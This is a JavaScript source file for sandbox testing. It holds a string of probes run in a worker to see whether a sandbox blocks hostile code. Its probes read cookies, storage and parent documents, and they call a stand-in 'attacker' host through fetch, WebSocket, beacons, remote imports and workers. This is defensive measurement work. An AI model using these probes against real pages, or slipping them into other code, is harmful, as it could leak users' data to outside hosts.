/**
 * What hostile code tries, as text to be run in a worker: each probe answers `absent`, `refused: …`, or `REACHED …`.
 * The text is JavaScript that runs anywhere, so that the same attempts are made with and without the walls they are to
 * meet.
 */

/** Expression of a function `(attacker, dynamicImport) => Promise<Record<string, string>>`. */
export const PROBES = String.raw`
(async (attacker, dynamicImport) => {
  const scope = globalThis;
  const ws = attacker.replace('http', 'ws');
  const need = (name) => {
    const value = name.split('.').reduce((holder, key) => (holder == null ? undefined : holder[key]), scope);
    if (value == null) throw { absent: true };
    return value;
  };
  const opened = (target) =>
    new Promise((resolve, reject) => {
      target.onopen = () => resolve('open');
      target.onerror = () => reject(new Error('error event'));
    });
  const request = (open) => new Promise((resolve, reject) => {
    open.onsuccess = () => resolve('open');
    open.onerror = () => reject(open.error);
  });
  const probes = {
    'parent document': () => need('parent').document.title,
    'top document': () => need('top').document.title,
    document: () => need('document').title,
    cookies: () => need('document').cookie,
    cookieStore: () => need('cookieStore').getAll(),
    localStorage: () => need('localStorage').length,
    sessionStorage: () => need('sessionStorage').length,
    indexedDB: () => request(need('indexedDB').open('vault')),
    caches: () => need('caches').open('vault'),
    'private files': () => need('navigator.storage').getDirectory(),
    locks: () => need('navigator.locks').request('vault', () => 'held'),
    serviceWorker: () => need('navigator.serviceWorker').register(attacker + '/sw'),
    fetch: () => need('fetch')(attacker + '/fetch', { mode: 'no-cors' }),
    'fetch keepalive': () => need('fetch')(attacker + '/keepalive', { mode: 'no-cors', keepalive: true }),
    XMLHttpRequest: () => new Promise((resolve, reject) => {
      const xhr = new (need('XMLHttpRequest'))();
      xhr.open('GET', attacker + '/xhr');
      xhr.onload = () => resolve('loaded');
      xhr.onerror = () => reject(new Error('error event'));
      xhr.send();
    }),
    WebSocket: () => opened(new (need('WebSocket'))(ws + '/ws')),
    WebSocketStream: () => new (need('WebSocketStream'))(ws + '/wss').opened,
    WebTransport: () => new (need('WebTransport'))(attacker.replace('http', 'https') + '/wt').ready,
    EventSource: () => opened(new (need('EventSource'))(attacker + '/events')),
    WebRTC: () => new (need('RTCPeerConnection'))({ iceServers: [{ urls: attacker.replace('http://', 'stun:') }] }).createOffer(),
    sendBeacon: () => need('navigator.sendBeacon').call(need('navigator'), attacker + '/beacon', 'x') || Promise.reject(new Error('false')),
    importScripts: () => need('importScripts')(attacker + '/script.js'),
    'import http': () => dynamicImport(attacker + '/module.js'),
    'import data': () => dynamicImport('data:text/javascript,export default 1'),
    'eval': () => (0, eval)('1'),
    'new Function': () => new Function('return 1')(),
    'async function from text': () => (async () => {}).constructor('return 1')(),
    'timer from text': () => { need('setTimeout')('globalThis.timerRan = 1'); throw new Error('not seen'); },
    Worker: () => new Promise((resolve, reject) => {
      const url = need('URL').createObjectURL(new (need('Blob'))(['postMessage(1)']));
      const worker = new (need('Worker'))(url);
      worker.onmessage = () => resolve('started');
      worker.onerror = () => reject(new Error('error event'));
    }),
    'Worker http': () => new Promise((resolve, reject) => {
      const worker = new (need('Worker'))(attacker + '/worker.js');
      worker.onmessage = () => resolve('started');
      worker.onerror = () => reject(new Error('error event'));
    }),
    SharedWorker: () => new (need('SharedWorker'))(attacker + '/shared.js'),
    FontFace: () => new (need('FontFace'))('stolen', 'url(' + attacker + '/font)').load(),
    'image bitmap': () => need('createImageBitmap')(new (need('Image'))()),
    'open window': () => need('open')(attacker + '/window'),
    'top navigation': () => { need('top').location = attacker + '/top'; throw new Error('not seen'); },
    'own navigation': () => { need('location.assign')(attacker + '/self'); },
    BroadcastChannel: () => new Promise((resolve, reject) => {
      const channel = new (need('BroadcastChannel'))('glaswerk');
      channel.onmessage = () => resolve('heard');
      channel.postMessage('hello');
      need('setTimeout')(() => reject(new Error('nobody answered')), 300);
    }),
    'WebAssembly': () => need('WebAssembly').compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
    postMessage: () => need('postMessage')('hello'),
    close: () => { need('close'); return 'there'; },
  };
  const results = {};
  await Promise.all(Object.entries(probes).map(async ([name, probe]) => {
    try {
      const patience = new Promise((_, reject) =>
        scope.setTimeout ? scope.setTimeout(() => reject(new Error('no answer')), 1500) : undefined);
      const answer = await Promise.race([Promise.resolve().then(probe), patience]);
      results[name] = 'REACHED ' + String(answer).slice(0, 60);
    } catch (error) {
      results[name] = error && error.absent ? 'absent' : 'refused: ' + String(error && error.message || error).slice(0, 100);
    }
  }));
  return results;
})
`;
